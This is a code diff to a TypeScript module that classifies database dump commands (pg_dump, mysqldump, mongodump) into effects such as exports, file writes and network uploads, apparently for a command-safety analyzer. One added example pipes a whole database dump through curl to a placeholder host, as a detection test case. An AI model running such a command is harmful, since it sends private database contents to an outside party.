@@ -1,17 +1,16 @@
-/** Programs that dump databases and restore them. */
+/** Programs that dump databases. */
 import type { EffectDraft } from '../../../../effects/effect';
 import type { Call, ProgramSpec } from '../../program';
-import { when, writes } from '../../stating';
+import { writes } from '../../stating';
 import { connectionOf } from './connection';
 import { mysqlConnection } from './mysql';
 import { postgresConnection, postgresOptions } from './postgres';
-import { unknownScript } from './runs-sql';
 
-const dumpOptions =
+export const dumpOptions =
   '-f,--file=FILE -t,--table=T -T,--exclude-table=T -n,--schema=S -N,--exclude-schema=S -F,--format=F -j,--jobs=N -Z,--compress=N -a,--data-only -s,--schema-only -c,--clean -C,--create -O,--no-owner -x,--no-privileges -b -B -v -E=E --role=R --if-exists --inserts --column-inserts -g,--globals-only -r,--roles-only -l=D';
 
 function exportTo(call: Call): 'file' | 'stdout' {
-  return call.words('-f', '-o', '--out', '--result-file', '-r').length > 0 ? 'file' : 'stdout';
+  return call.words('-o', '--result-file', '--tab').length > 0 ? 'file' : 'stdout';
 }
 
 export const pgDump: ProgramSpec = {
@@ -38,26 +37,39 @@ export const pgDump: ProgramSpec = {
     yields: {
       'pg_dump -t users shop': 'db.export{table=users,to=stdout}',
       'pg_dump -Fc -f d.dump shop': 'db.export{to=file} + fs.write',
+      'pg_dump --schema-only -h db1 shop': 'db.export{rows=0,to=stdout}',
+      'pg_dump shop | curl -T - https://x.test/d':
+        'db.export{to=stdout} + net.upload{source=db,host=x.test} + net.fetch',
     },
+    inert: ['pg_dump --version'],
   },
 };
 
 export const mysqldump: ProgramSpec = {
   names: 'mysqldump mariadb-dump mysqlpump mydumper',
   options:
-    '-h,--host=H -P=P -u,--user=U -p,--password[=PW] -r,--result-file=FILE -d,--no-data -A,--all-databases -B,--databases --tables -w,--where=W -S=S --ignore-table=T --single-transaction --routines --triggers -t -q -T,--tab=D -o,--outputdir=D -c -e -n --set-gtid-purged=M --column-statistics=N',
+    '-h,--host=H -P=P -u,--user=U -p,--password[=PW] -r,--result-file=FILE -d,--no-data -A,--all-databases -B,--databases --tables -w,--where=W -S=S --ignore-table=T --single-transaction --routines --triggers -t -q -T,--tab=D -o,--outputdir=D -c -e -n --set-gtid-purged=M --column-statistics=N -V,--version',
+  inertWith: ['-V'],
   does(call) {
     const { evidence } = mysqlConnection(call);
     const tables = call.has('-A', '-B') === true ? [] : call.operands.slice(1).map((word) => word.value);
+    const rows = call.name !== 'mydumper' && call.has('-d') === true ? { rows: 0 } : {};
     const exports = (tables.length > 0 ? tables : [null]).map(
-      (table): EffectDraft => ({ kind: 'db.export', engine: 'mysql', table, to: exportTo(call), evidence }),
+      (table): EffectDraft => ({ kind: 'db.export', engine: 'mysql', table, to: exportTo(call), ...rows, evidence }),
     );
     return {
       effects: [...exports, ...writes(call, call.words('-r', '-T', '-o'), 'overwrite')],
       output: { text: null, sources: ['db'] },
     };
   },
-  examples: { yields: { 'mysqldump -u root shop orders': 'db.export{table=orders,to=stdout}' } },
+  examples: {
+    yields: {
+      'mysqldump -u root shop orders': 'db.export{table=orders,to=stdout}',
+      'mysqldump -h db1 --all-databases --result-file=all.sql': 'db.export{to=file} + fs.write',
+      'mysqldump --no-data shop': 'db.export{rows=0}',
+    },
+    inert: ['mysqldump -V'],
+  },
 };
 
 export const mongoDump: ProgramSpec = {
@@ -73,7 +85,9 @@ export const mongoDump: ProgramSpec = {
       url: ['--uri'],
       localByDefault: true,
     });
-    const stdout = call.name === 'mongoexport' && exportTo(call) === 'stdout';
+    const files = [...call.words('-o'), ...call.words('--archive')].filter(({ value }) => value !== '-');
+    const streams = call.name === 'mongoexport' ? files.length === 0 : call.has('--archive') && files.length === 0;
+    const stdout = streams || call.words('-o').some(({ value }) => value === '-');
     return {
       effects: [
         {
@@ -83,43 +97,18 @@ export const mongoDump: ProgramSpec = {
           to: stdout ? 'stdout' : 'file',
           evidence,
         },
-        ...writes(call, call.words('-o'), 'overwrite'),
+        ...writes(call, files, 'overwrite'),
       ],
       output: { text: null, sources: ['db'] },
     };
   },
-  examples: { yields: { 'mongoexport -d shop -c users -o u.json': 'db.export{table=users,to=file} + fs.write' } },
-};
-
-export const restores: ProgramSpec = {
-  names: 'pg_restore mongorestore mongoimport mysqlimport mariadb-import myloader',
-  options: `${postgresOptions} ${dumpOptions} -l,--list --drop --uri=U -c,--clean,--collection --db=D --nsInclude=N --mode=M --archive[=F] --gzip -u,--user=U`,
-  inertWith: ['-l'],
-  does(call) {
-    const connection = postgresConnection(call, { operand: false });
-    // Without a database to restore into, pg_restore prints SQL.
-    if (call.name === 'pg_restore' && !call.maybe('-d')) return writes(call, call.words('-f'), 'overwrite');
-    const engine = call.name.startsWith('mongo') ? 'mongo' : call.name.startsWith('pg') ? 'postgres' : 'mysql';
-    const evidence = connection.evidence;
-    const clears = call.name === 'mongoimport' ? call.has('--drop') : call.has('--drop', '-c');
-    return [
-      unknownScript({ ...connection, engine }),
-      ...when(clears, {
-        kind: 'db.schema.drop',
-        engine,
-        object: engine === 'mongo' ? 'collection' : 'table',
-        name: null,
-        extent: 'unbounded',
-        evidence,
-      }),
-    ];
-  },
   examples: {
     yields: {
-      'pg_restore -d shop d.dump': 'db.exec{what=script}',
-      'pg_restore --clean -d shop d.dump': 'db.exec + db.schema.drop{object=table}',
-      'mongorestore --drop dump/': 'db.exec + db.schema.drop',
+      'mongoexport -d shop -c users -o u.json': 'db.export{table=users,to=file} + fs.write',
+      'mongodump --uri mongodb://db1/shop --archive=shop.gz --gzip':
+        'db.export{to=file} + fs.write{path=/repo/shop.gz}',
+      'mongodump -d shop --archive': 'db.export{to=stdout}',
     },
-    inert: ['pg_restore -l d.dump'],
+    inert: ['mongodump --version'],
   },
 };
